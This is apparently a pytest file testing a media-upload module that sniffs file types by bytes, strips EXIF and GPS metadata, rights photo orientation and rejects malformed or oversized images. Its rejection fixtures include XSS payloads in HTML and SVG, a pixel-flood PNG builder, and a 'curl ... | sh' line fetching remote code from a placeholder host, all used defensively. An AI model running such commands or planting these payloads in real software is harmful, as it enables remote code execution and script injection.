"""Intake checks: files are judged by their bytes; photos come out upright and without metadata."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image, ImageFile

from kabar.domain.media import (
    ALLOWED_TYPES,
    MediaRejected,
    canonical_type,
    check_declared,
    check_video,
    sanitize_photo,
    sniff,
)
from kabar.domain.models import FileKind

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def jpeg(size=(64, 48), colour=(200, 30, 30), **params) -> bytes:
    return encode(Image.new("RGB", size, colour), "JPEG", **params)


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = major + b"\x00\x00\x02\x00" + b"".join(compatible)
    box = struct.pack(">I", 8 + len(body)) + b"ftyp" + body
    return box + struct.pack(">I", 16) + b"mdat" + b"\x00" * 8 + b"\x00" * 4096


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares a huge canvas but carries a tiny compressed payload."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    idat = zlib.compress(b"\x00" * 1024, 9)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


MP4 = ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41")
MOV = ftyp(b"qt  ", b"qt  ")
HEIC = ftyp(b"heic", b"mif1", b"heic")

NOT_MEDIA = {
    "html renamed .jpg": b"<!DOCTYPE html><html><head><script>alert(1)</script></head><body></body></html>",
    "html with BOM and spaces": b"\xef\xbb\xbf  \n<html><body onload=alert(1)></body></html>",
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    "bare svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"\x00" * 2048,
    "zip": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 2048,
    "shell script": b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
    "text": b"just some words, not a picture\n" * 50,
    "bitmap-looking junk": b"BM" + bytes(range(256)) * 16,
}


# --- sniffing --------------------------------------------------------------------------------


@pytest.mark.parametrize(("data", "expected"), [
    (jpeg(), "image/jpeg"),
    (encode(Image.new("RGB", (8, 8)), "PNG"), "image/png"),
    (encode(Image.new("RGB", (8, 8)), "WEBP"), "image/webp"),
    (MP4, "video/mp4"),
    (MOV, "video/quicktime"),
    (HEIC, "image/heic"),
    (ftyp(b"mif1", b"mif1", b"heic"), "image/heic"),
    (ftyp(b"mp42", b"mp42", b"isom"), "video/mp4"),
    (ftyp(b"M4A ", b"M4A ", b"mp42"), "audio/mp4"),
])
def test_sniff_recognises_photos_and_videos_by_their_bytes(data, expected):
    assert sniff(data[:8192]) == expected


@pytest.mark.parametrize("name", NOT_MEDIA)
def test_sniff_never_calls_markup_scripts_documents_or_archives_an_image_or_video(name):
    # Given a file that is not a photo or a video, whatever its name says
    found = sniff(NOT_MEDIA[name])
    # Then its type is no image or video type, so no kind accepts it
    assert found is None or not found.startswith(("image/", "video/"))
    for kind in FileKind:
        with pytest.raises(MediaRejected):
            check_declared(kind, "image/jpeg" if kind is FileKind.PHOTO else "video/mp4", found)


def test_sniff_of_nothing_is_none():
    assert sniff(b"") is None


# --- declared versus found -------------------------------------------------------------------


def test_declared_type_variants_are_the_same_type():
    assert canonical_type("Image/JPG; charset=binary") == "image/jpeg"
    check_declared(FileKind.PHOTO, "image/jpg", "image/jpeg")
    check_declared(FileKind.PHOTO, "image/heif", "image/heic")
    check_declared(FileKind.VIDEO, "video/quicktime", "video/quicktime")


@pytest.mark.parametrize(("kind", "declared", "sniffed", "code"), [
    (FileKind.PHOTO, "image/jpeg", "image/png", "type_mismatch"),
    (FileKind.PHOTO, "image/jpeg", "text/html", "type_not_allowed"),
    (FileKind.PHOTO, "image/gif", "image/gif", "type_not_allowed"),
    (FileKind.PHOTO, "video/mp4", "video/mp4", "wrong_kind"),
    (FileKind.VIDEO, "video/mp4", "image/heic", "wrong_kind"),
    (FileKind.VIDEO, "video/mp4", None, "type_unknown"),
    (FileKind.VIDEO, "video/mp4", "video/quicktime", "type_mismatch"),
])
def test_check_declared_refuses_with_a_code_and_a_bilingual_message(kind, declared, sniffed, code):
    with pytest.raises(MediaRejected) as caught:
        check_declared(kind, declared, sniffed)
    assert caught.value.code == code
    assert caught.value.message.id and caught.value.message.en
    assert caught.value.message.id != caught.value.message.en


def test_allowed_types_are_what_the_sop_channels_take():
    assert ALLOWED_TYPES[FileKind.PHOTO] == {"image/jpeg", "image/png", "image/webp", "image/heic"}
    assert ALLOWED_TYPES[FileKind.VIDEO] == {"video/mp4", "video/quicktime"}


def test_check_video_reads_the_ftyp_box():
    assert check_video(MP4[:4096]) == "video/mp4"
    assert check_video(MOV[:4096]) == "video/quicktime"
    for head in (HEIC, jpeg(), NOT_MEDIA["html renamed .jpg"], b"\x00\x00\x00\x18ftyp", b""):
        with pytest.raises(MediaRejected) as caught:
            check_video(head)
        assert caught.value.code == "video_unrecognised"


# --- photos ----------------------------------------------------------------------------------


def test_sanitize_photo_removes_gps_and_all_other_metadata():
    # Given a phone photo whose EXIF holds a GPS position, a camera model, an XMP packet and a comment
    exif = Image.Exif()
    exif[0x0110] = "Phone X"  # Model
    exif.get_ifd(GPS_IFD).update({1: "S", 2: (7.0, 40.0, 12.5), 3: "E", 4: (110.0, 24.0, 3.1)})
    source = jpeg((320, 240), exif=exif.tobytes(), comment=b"rumah pak dukuh",
                  xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret</x:xmpmeta>')
    assert Image.open(io.BytesIO(source)).getexif().get_ifd(GPS_IFD)  # the test photo really has GPS
    # When it is sanitized
    clean = sanitize_photo(source)
    # Then the output is a JPEG with no EXIF (no GPS), no XMP, no comment
    out = Image.open(io.BytesIO(clean.data))
    assert out.format == "JPEG" and clean.content_type == "image/jpeg"
    assert not out.getexif() and not out.getexif().get_ifd(GPS_IFD)
    assert b"Exif" not in clean.data and b"Phone X" not in clean.data
    assert b"xmpmeta" not in clean.data and b"rumah pak dukuh" not in clean.data
    assert "icc_profile" not in out.info
    assert (clean.width, clean.height) == out.size == (320, 240)


def test_sanitize_photo_turns_the_photo_upright_from_exif_orientation_6():
    # Given a photo stored landscape, red on the left and blue on the right, with orientation 6
    # (the camera was turned: the viewer must rotate it 90 degrees clockwise)
    stored = Image.new("RGB", (300, 200), (220, 0, 0))
    stored.paste((0, 0, 220), (150, 0, 300, 200))
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    # When it is sanitized
    clean = sanitize_photo(encode(stored, "JPEG", exif=exif.tobytes()))
    out = Image.open(io.BytesIO(clean.data)).convert("RGB")
    # Then it is portrait, the left side now on top, and no orientation tag is left to apply twice
    assert (clean.width, clean.height) == (200, 300)
    top, bottom = out.getpixel((100, 20)), out.getpixel((100, 280))
    assert top[0] > 150 and top[2] < 80
    assert bottom[2] > 150 and bottom[0] < 80
    assert ORIENTATION not in out.getexif()


def test_sanitize_photo_downscales_to_the_longest_side():
    clean = sanitize_photo(jpeg((3000, 1000)), max_side=2048)
    assert (clean.width, clean.height) == (2048, 683)
    assert Image.open(io.BytesIO(clean.data)).size == (2048, 683)


def test_sanitize_photo_puts_transparency_on_white():
    rgba = Image.new("RGBA", (40, 40), (0, 0, 0, 0))
    clean = sanitize_photo(encode(rgba, "PNG"))
    out = Image.open(io.BytesIO(clean.data))
    assert out.mode == "RGB"
    assert min(out.getpixel((20, 20))) > 240


def test_truncated_jpeg_is_rejected_with_advice():
    # Given a JPEG cut off halfway (an upload that broke)
    full = encode(Image.effect_noise((400, 300), 60).convert("RGB"), "JPEG", quality=90)
    # When it is sanitized, Then it is refused as damaged, in both languages, without a crash
    with pytest.raises(MediaRejected) as caught:
        sanitize_photo(full[: len(full) // 2])
    assert caught.value.code == "image_corrupt"
    assert "Unggah ulang" in caught.value.message.id
    assert "Upload the original photo again" in caught.value.message.en


@pytest.mark.parametrize(("width", "height"), [(20_000, 20_000), (8_000, 8_000)])
def test_pixel_flood_png_is_rejected_before_decoding(width, height, monkeypatch):
    # Given a PNG of a few hundred bytes that declares a canvas over the pixel limit
    flood = png_header_only(width, height)
    assert len(flood) < 1000

    def no_decode(self, *args, **kwargs):
        raise AssertionError("the pixels of a flood image must never be decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decode)
    # When it is sanitized, Then it is refused as too large without decoding it
    with pytest.raises(MediaRejected) as caught:
        sanitize_photo(flood)
    assert caught.value.code == "image_too_large"


@pytest.mark.parametrize("data", [b"", b"\xff\xd8\xff\xe0garbage", NOT_MEDIA["svg"], NOT_MEDIA["pdf"],
                                  encode(Image.new("RGB", (8, 8)), "GIF"), encode(Image.new("RGB", (8, 8)), "BMP")])
def test_anything_but_a_jpeg_png_or_webp_is_not_decoded(data):
    with pytest.raises(MediaRejected) as caught:
        sanitize_photo(data)
    assert caught.value.code == "image_corrupt"


def heic(size=(64, 48), orientation: int | None = None) -> bytes:
    """A real HEIC, as an iPhone writes it: HEVC-coded, with EXIF naming the camera and the place."""
    from pillow_heif import register_heif_opener

    register_heif_opener()
    exif = Image.Exif()
    exif[0x010F] = "Apple"
    exif[GPS_IFD] = {1: "S", 2: (7.0, 38.0, 12.5), 3: "E", 4: (110.0, 24.0, 3.2)}
    if orientation:
        exif[ORIENTATION] = orientation
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((20, 20, 220), (0, 0, size[0] // 4, size[1] // 4))  # a blue corner shows where "up" went
    return encode(image, "HEIF", quality=60, exif=exif.tobytes())


def test_heic_is_converted_to_a_jpeg_without_metadata_and_upright():
    data = heic((64, 48), orientation=6)
    assert sniff(data) == "image/heic"
    clean = sanitize_photo(data)
    out = Image.open(io.BytesIO(clean.data))
    assert out.format == "JPEG"
    assert (clean.width, clean.height) == out.size == (48, 64)  # turned once, not twice
    assert not out.getexif() and "exif" not in out.info
    assert b"Apple" not in clean.data


@pytest.mark.parametrize("cut", [lambda d: d[: len(d) // 2], lambda d: d[:300], lambda d: HEIC])
def test_truncated_or_empty_heic_is_rejected_as_damaged(cut):
    with pytest.raises(MediaRejected) as caught:
        sanitize_photo(cut(heic((64, 48))))
    assert caught.value.code == "image_corrupt"
    assert "Unggah ulang" in caught.value.message.id and "again" in caught.value.message.en


def test_sanitized_photo_is_a_plain_progressive_jpeg_of_a_webp():
    clean = sanitize_photo(encode(Image.new("RGB", (50, 30), (10, 120, 10)), "WEBP"))
    out = Image.open(io.BytesIO(clean.data))
    assert out.format == "JPEG" and out.info.get("progressive") == 1
